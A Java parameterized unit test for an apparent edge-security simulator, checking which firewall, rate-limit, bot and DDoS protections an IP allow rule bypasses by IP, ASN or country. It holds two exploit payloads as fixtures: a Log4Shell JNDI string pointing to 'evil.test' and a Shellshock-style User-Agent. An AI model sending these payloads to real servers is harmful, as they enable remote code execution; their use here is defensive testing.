package dev.edgecase.phase.tool;

import static org.assertj.core.api.Assertions.assertThat;

import dev.edgecase.http.Body;
import dev.edgecase.http.Headers;
import dev.edgecase.pipeline.Decider;
import dev.edgecase.testkit.InMemoryEdge;
import dev.edgecase.testkit.InMemoryEdge.Answer;
import dev.edgecase.testkit.Knobs;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What an IP Access rule that allows a visitor bypasses, product by product. */
class AllowedVisitorTest {
    private static final String VISITOR = "ip=203.0.113.7; country=DE; asn=64500; bot_score=1";

    @ParameterizedTest(name = "{0} allowed by {1} {2}: {3}")
    @CsvSource(textBlock = """
            WAF_CUSTOM,  none,     -,              403
            WAF_CUSTOM,  ip,       203.0.113.7,    200
            WAF_CUSTOM,  ip_range, 203.0.113.0/24, 200
            WAF_CUSTOM,  asn,      AS64500,        200
            WAF_CUSTOM,  country,  DE,             200
            RATE_LIMIT,  none,     -,              429
            RATE_LIMIT,  ip,       203.0.113.7,    200
            RATE_LIMIT,  country,  DE,             200
            WAF_MANAGED, none,     -,              403
            WAF_MANAGED, ip,       203.0.113.7,    200
            WAF_MANAGED, ip_range, 203.0.113.0/24, 200
            WAF_MANAGED, asn,      AS64500,        200
            WAF_MANAGED, country,  DE,             403
            BOT_FIGHT,   none,     -,              403
            BOT_FIGHT,   ip,       203.0.113.7,    200
            BOT_FIGHT,   country,  DE,             200
            SUPER,       none,     -,              403
            SUPER,       ip,       203.0.113.7,    200
            SUPER,       country,  DE,             200
            DDOS,        none,     -,              403
            DDOS,        ip,       203.0.113.7,    403
            VALIDATION,  none,     -,              403
            VALIDATION,  ip,       203.0.113.7,    403
            VALIDATION,  country,  DE,             403
            """)
    void passes_what_the_matrix_says(String product, String target, String value, int status) {
        var allow = target.equals("none")
                ? ""
                : "\"ip_access_rules\":[{\"mode\":\"whitelist\",\"configuration\":{\"target\":\"%s\",\"value\":\"%s\"}}],"
                        .formatted(target, value);
        var edge = Guarded.edge(
                "{" + allow + guard(product) + "}",
                zone -> product.equals("DDOS") ? Knobs.turned(zone, "ddos", "block") : zone);
        ask(edge, product);

        var answer = ask(edge, product);

        assertThat(answer.status()).isEqualTo(status);
        assertThat(answer.journey().ruling().decider()).isEqualTo(status == 200 ? Decider.ORIGIN : decider(product));
    }

    private static Decider decider(String product) {
        return switch (product) {
            case "SUPER" -> Decider.BOT_FIGHT;
            case "DDOS" -> Decider.DDOS;
            default -> Decider.valueOf(product);
        };
    }

    private static String guard(String product) {
        return switch (product) {
            case "WAF_CUSTOM" ->
                "\"rules\":{\"http_request_firewall_custom\":[{\"expression\":\"true\",\"action\":\"block\"}]}";
            case "RATE_LIMIT" ->
                "\"rules\":{\"http_ratelimit\":[{\"expression\":\"true\",\"action\":\"block\",\"ratelimit\":{\"characteristics\":"
                        + "[\"cf.colo.id\",\"ip.src\"],\"period\":10,\"requests_per_period\":1,\"mitigation_timeout\":10}}]}";
            case "BOT_FIGHT" -> "\"bot_management\":{\"fight_mode\":true}";
            case "SUPER" -> "\"bot_management\":{\"sbfm_definitely_automated\":\"block\"}";
            default -> "\"rules\":{}";
        };
    }

    private static Answer ask(InMemoryEdge edge, String product) {
        var agent = product.equals("VALIDATION") ? "() { :; }; echo" : "test";
        var target = product.equals("WAF_MANAGED") ? "/?q=${jndi:ldap://evil.test/a}" : "/";
        return edge.send("GET", target, Headers.of("Edgecase-Visitor", VISITOR, "User-Agent", agent), Body.EMPTY);
    }
}
